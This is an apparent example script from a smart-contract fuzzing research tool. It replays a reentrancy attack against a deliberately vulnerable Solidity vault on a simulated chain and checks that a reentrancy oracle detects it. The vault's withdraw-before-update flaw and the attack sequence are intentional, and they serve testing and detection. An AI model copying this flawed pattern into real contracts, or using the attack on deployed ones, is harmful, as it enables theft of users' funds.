#!/usr/bin/env python
"""Replay a reentrancy attack step by step on the chain substrate.

This example works *below* the fuzzer: it deploys a DAO-style vault,
installs a reentrant attacker agent, and walks the attack transaction by
transaction, printing balances and the reentrant call trace — the exact
dynamic evidence the RE oracle consumes (§IV-D).

Run:  python examples/reentrancy_attack_replay.py
"""

from repro.chain import Chain, ReentrantAgent
from repro.chain.transactions import Transaction
from repro.compiler import compile_source, encode_call
from repro.oracles import OracleContext
from repro.oracles.bus import OracleBus
from repro.oracles.reentrancy import ReentrancyOracle

VAULT = """
contract Vault {
    mapping(address => uint256) shares;
    function join() public payable { shares[msg.sender] += msg.value; }
    function redeem() public {
        uint256 owed = shares[msg.sender];
        if (owed > 0) {
            bool sent = msg.sender.call.value(owed)();
            require(sent);
            shares[msg.sender] = 0;   // too late: state updated after call
        }
    }
}
"""

VICTIM = 0xA11CE
ATTACKER = 0xBAD


def ether(wei: int) -> str:
    return f"{wei / 10 ** 18:.3f} ETH"


def main() -> None:
    chain = Chain()
    chain.create_account(VICTIM)
    agent = ReentrantAgent(ATTACKER, max_reentries=3)
    chain.register_agent(ATTACKER, agent)

    artifact = compile_source(VAULT)
    vault = chain.deploy(artifact, sender=VICTIM)
    join = artifact.abi.function("join")
    redeem = artifact.abi.function("redeem")

    print("1. victim deposits 10 ETH")
    chain.apply(Transaction(sender=VICTIM, to=vault.address,
                            value=10 * 10 ** 18, data=encode_call(join, [])))
    print("   vault balance:", ether(chain.world.get_balance(vault.address)))

    print("2. attacker deposits 1 ETH (establishing a share)")
    chain.apply(Transaction(sender=ATTACKER, to=vault.address,
                            value=1 * 10 ** 18, data=encode_call(join, [])))

    print("3. attacker arms its fallback to re-call redeem() and withdraws")
    # the RE oracle watches this transaction: the bus streams it every
    # call event while the attack executes
    ctx = OracleContext(artifact=artifact, address=vault.address,
                        deployer=VICTIM,
                        attacker_addresses=frozenset({ATTACKER}))
    bus = OracleBus([ReentrancyOracle()], ctx)
    chain.oracle_bus = bus
    agent.arm(encode_call(redeem, []))
    attacker_before = chain.world.get_balance(ATTACKER)
    receipt = chain.apply(Transaction(sender=ATTACKER, to=vault.address,
                                      data=encode_call(redeem, [])))
    stolen = chain.world.get_balance(ATTACKER) - attacker_before

    print("   transaction succeeded:", receipt.success)
    print("   reentrant frames observed:",
          sum(1 for c in receipt.trace.calls if c.reentrant))
    print("   vault balance after :",
          ether(chain.world.get_balance(vault.address)))
    print("   attacker gained     :", ether(stolen),
          "(deposited only 1 ETH)")

    findings = bus.end_transaction(receipt)
    print()
    print("RE oracle verdict:")
    for finding in findings:
        print(f"  [{finding.bug_class}] line {finding.line}: "
              f"{finding.description}")
    assert findings, "the oracle must flag this attack"


if __name__ == "__main__":
    main()
